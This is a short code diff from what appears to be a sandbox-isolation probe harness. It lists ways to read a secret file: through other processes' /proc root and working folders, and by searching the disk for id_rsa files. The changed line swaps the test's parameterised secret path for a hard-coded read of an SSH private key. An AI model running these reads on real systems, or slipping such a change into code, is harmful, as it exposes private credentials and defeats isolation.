@@ -15,7 +15,7 @@ const reads: Record<string, string> = {
   'by the root of any process': `for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)))
     attempt(() => got(fs.readFileSync('/proc/' + pid + '/root' + data.secret, 'utf8')))`,
   'by the folder of any process': `for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)))
-    attempt(() => got(fs.readFileSync('/proc/' + pid + '/cwd/' + data.secret, 'utf8')))`,
+    attempt(() => got(fs.readFileSync('/proc/' + pid + '/cwd/../home/.ssh/id_rsa', 'utf8')))`,
   'by searching the whole disk': `for (const root of ['/home', '/root', '/tmp', '/var', '/work', '/mnt', '/opt', '/srv', '/run'])
     attempt(() => { const found = cp.execFileSync('grep', ['-rlsF', '--include=id_rsa', data.text, root], { encoding: 'utf8' }); if (found) got(data.text); })`,
 };
